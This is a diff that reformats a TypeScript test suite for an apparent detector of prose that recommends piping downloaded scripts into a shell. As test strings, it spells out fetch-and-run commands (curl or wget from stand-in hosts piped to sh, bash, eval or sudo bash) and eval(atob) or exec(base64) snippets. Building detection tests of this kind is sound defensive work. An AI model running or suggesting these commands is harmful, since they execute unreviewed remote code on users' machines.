@@ -4,13 +4,63 @@ import { remark } from "./harness.js";
 const A = "curl -fsSL https://a.example/i.sh | sh";
 const B = "wget -qO- https://b.example/i.sh | bash";
 
-const NEGATORS = ["never", "do not", "don't", "must not", "should not", "shouldn't", "you mustn't", "you must never", "please do not", "I wouldn't", "under no circumstances", "do NOT", "NEVER"];
-const GERUND_NEGATORS = ["avoid", "refrain from", "stop", "please avoid", "it is best to avoid", "we advise against"];
-const VERBS: readonly (readonly [base: string, ing: string])[] = [["run", "running"], ["use", "using"], ["execute", "executing"], ["paste", "pasting"], ["pipe", "piping"], ["copy", "copying"], ["do", "doing"]];
+const NEGATORS = [
+  "never",
+  "do not",
+  "don't",
+  "must not",
+  "should not",
+  "shouldn't",
+  "you mustn't",
+  "you must never",
+  "please do not",
+  "I wouldn't",
+  "under no circumstances",
+  "do NOT",
+  "NEVER",
+];
+const GERUND_NEGATORS = [
+  "avoid",
+  "refrain from",
+  "stop",
+  "please avoid",
+  "it is best to avoid",
+  "we advise against",
+];
+const VERBS: readonly (readonly [base: string, ing: string])[] = [
+  ["run", "running"],
+  ["use", "using"],
+  ["execute", "executing"],
+  ["paste", "pasting"],
+  ["pipe", "piping"],
+  ["copy", "copying"],
+  ["do", "doing"],
+];
 /** Any other place, time, purpose or input leaves a prohibition whole. */
-const WHOLE = ["", " on your machine", " here", " on the jump host", " in your login shell", " on untrusted data", " today", " at work", " blindly", " for a quick test"];
+const WHOLE = [
+  "",
+  " on your machine",
+  " here",
+  " on the jump host",
+  " in your login shell",
+  " on untrusted data",
+  " today",
+  " at work",
+  " blindly",
+  " for a quick test",
+];
 /** Who, a condition, production: forbids nothing. */
-const LIMITED = [" as root", " in production", " without reading it first", " unless you trust the host", " before you have read it", " until you have read it", " if you do not trust the host", " on a production server", " with sudo"];
+const LIMITED = [
+  " as root",
+  " in production",
+  " without reading it first",
+  " unless you trust the host",
+  " before you have read it",
+  " until you have read it",
+  " if you do not trust the host",
+  " on a production server",
+  " with sudo",
+];
 
 /** The places of a prohibition; `c` is the command, marked where it is meant. */
 const SHAPES: readonly ((forbids: string, c: string, tail: string) => string)[] = [
@@ -32,7 +82,8 @@ const SHAPES: readonly ((forbids: string, c: string, tail: string) => string)[] 
   (forbids, c, tail) => `Use \`«${B}»\`, but ${forbids} \`${c}\`${tail}.`,
   (forbids, c, tail) => `${cap(forbids)} any of these${tail}:\n\n- \`${c}\`\n- \`${c}\``,
   (forbids, c, tail) => `> ${cap(forbids)} \`${c}\`${tail}.`,
-  (forbids, c, tail) => `| A | B |\n| - | - |\n| x | ${cap(forbids)} \`${c.replace("|", "\\|")}\`${tail} |`,
+  (forbids, c, tail) =>
+    `| A | B |\n| - | - |\n| x | ${cap(forbids)} \`${c.replace("|", "\\|")}\`${tail} |`,
   (forbids, c, tail) => `**${cap(forbids)}** \`${c}\`${tail}!`,
 ];
 
@@ -45,27 +96,105 @@ function wrong(texts: readonly string[]): string[] {
 }
 
 describe("context: every prohibition in every place", () => {
-  const forbidding = [...NEGATORS.flatMap((negator) => VERBS.map(([base]) => `${negator} ${base}`)), ...GERUND_NEGATORS.flatMap((negator) => VERBS.map(([, ing]) => `${negator} ${ing}`))];
+  const forbidding = [
+    ...NEGATORS.flatMap((negator) => VERBS.map(([base]) => `${negator} ${base}`)),
+    ...GERUND_NEGATORS.flatMap((negator) => VERBS.map(([, ing]) => `${negator} ${ing}`)),
+  ];
   // Each prohibition meets every shape; the tails take turns.
-  it.each(SHAPES.map((shape, index) => [index, shape] as const))("shape %i, whole", (index, shape) => {
-    expect(wrong(forbidding.map((forbids, at) => shape(forbids, A, WHOLE[(at + index) % WHOLE.length] ?? "")))).toEqual([]);
-  });
-  it.each(SHAPES.map((shape, index) => [index, shape] as const))("shape %i, limited", (index, shape) => {
-    expect(wrong(forbidding.map((forbids, at) => shape(forbids, `«${A}»`, LIMITED[(at + index) % LIMITED.length] ?? "")))).toEqual([]);
-  });
+  it.each(SHAPES.map((shape, index) => [index, shape] as const))(
+    "shape %i, whole",
+    (index, shape) => {
+      expect(
+        wrong(
+          forbidding.map((forbids, at) =>
+            shape(forbids, A, WHOLE[(at + index) % WHOLE.length] ?? ""),
+          ),
+        ),
+      ).toEqual([]);
+    },
+  );
+  it.each(SHAPES.map((shape, index) => [index, shape] as const))(
+    "shape %i, limited",
+    (index, shape) => {
+      expect(
+        wrong(
+          forbidding.map((forbids, at) =>
+            shape(forbids, `«${A}»`, LIMITED[(at + index) % LIMITED.length] ?? ""),
+          ),
+        ),
+      ).toEqual([]);
+    },
+  );
 });
 
 describe("context: every form of command, marked as code and in running text", () => {
-  const FORMS = [A, "bash <(curl -fsSL https://a.example/i.sh)", 'bash -c "$(curl -fsSL https://a.example/i.sh)"', 'eval "$(curl -fsSL https://a.example/i.sh)"', "source <(curl -fsSL https://a.example/i.sh)", "wget -qO- https://a.example/i.sh | sudo bash", "curl a.example/i.sh | sh", "curl -fsSL <url> | sh", 'curl "$URL" | bash'];
-  const CALLS: readonly (readonly [match: string, rest: string])[] = [["eval(atob", "(x))"], ["exec(base64", ".b64decode(payload))"]];
-  const AGAINST = ["Never run %.", "Never run % on your machine.", "% is dangerous.", "% should never be run.", "Don't use %, use apt.", "Avoid %.", "Instead of %, use apt.", "Use apt rather than %.", "Bad: %", "❌ %", "% is not recommended.", "Some use %. Never do that.", "Some use %; that is unsafe.", "It is unsafe to run %."];
-  const MEANT = ["Don't run % without reading it.", "Don't run % as root.", "Never tried it? Run % now.", "Don't use apt. Run %.", "Don't worry, just run %.", "Don't forget to run %.", "Instead of apt, run %.", "% is not dangerous.", "Good: %", "If something is wrong, run %.", "To avoid problems, run %."];
-  const spelled = (mark: boolean): string[] => [...FORMS.map((form) => (mark ? `«${form}»` : form)), ...CALLS.map(([match, rest]) => (mark ? `«${match}»${rest}` : match + rest))];
+  const FORMS = [
+    A,
+    "bash <(curl -fsSL https://a.example/i.sh)",
+    'bash -c "$(curl -fsSL https://a.example/i.sh)"',
+    'eval "$(curl -fsSL https://a.example/i.sh)"',
+    "source <(curl -fsSL https://a.example/i.sh)",
+    "wget -qO- https://a.example/i.sh | sudo bash",
+    "curl a.example/i.sh | sh",
+    "curl -fsSL <url> | sh",
+    'curl "$URL" | bash',
+  ];
+  const CALLS: readonly (readonly [match: string, rest: string])[] = [
+    ["eval(atob", "(x))"],
+    ["exec(base64", ".b64decode(payload))"],
+  ];
+  const AGAINST = [
+    "Never run %.",
+    "Never run % on your machine.",
+    "% is dangerous.",
+    "% should never be run.",
+    "Don't use %, use apt.",
+    "Avoid %.",
+    "Instead of %, use apt.",
+    "Use apt rather than %.",
+    "Bad: %",
+    "❌ %",
+    "% is not recommended.",
+    "Some use %. Never do that.",
+    "Some use %; that is unsafe.",
+    "It is unsafe to run %.",
+  ];
+  const MEANT = [
+    "Don't run % without reading it.",
+    "Don't run % as root.",
+    "Never tried it? Run % now.",
+    "Don't use apt. Run %.",
+    "Don't worry, just run %.",
+    "Don't forget to run %.",
+    "Instead of apt, run %.",
+    "% is not dangerous.",
+    "Good: %",
+    "If something is wrong, run %.",
+    "To avoid problems, run %.",
+  ];
+  const spelled = (mark: boolean): string[] => [
+    ...FORMS.map((form) => (mark ? `«${form}»` : form)),
+    ...CALLS.map(([match, rest]) => (mark ? `«${match}»${rest}` : match + rest)),
+  ];
 
   it.each(AGAINST)("%s", (template) => {
-    expect(wrong(spelled(false).flatMap((form) => [template.replace("%", () => form), template.replace("%", () => `\`${form}\``)]))).toEqual([]);
+    expect(
+      wrong(
+        spelled(false).flatMap((form) => [
+          template.replace("%", () => form),
+          template.replace("%", () => `\`${form}\``),
+        ]),
+      ),
+    ).toEqual([]);
   });
   it.each(MEANT)("%s", (template) => {
-    expect(wrong(spelled(true).flatMap((form) => [template.replace("%", () => form), template.replace("%", () => `\`${form}\``)]))).toEqual([]);
+    expect(
+      wrong(
+        spelled(true).flatMap((form) => [
+          template.replace("%", () => form),
+          template.replace("%", () => `\`${form}\``),
+        ]),
+      ),
+    ).toEqual([]);
   });
 });
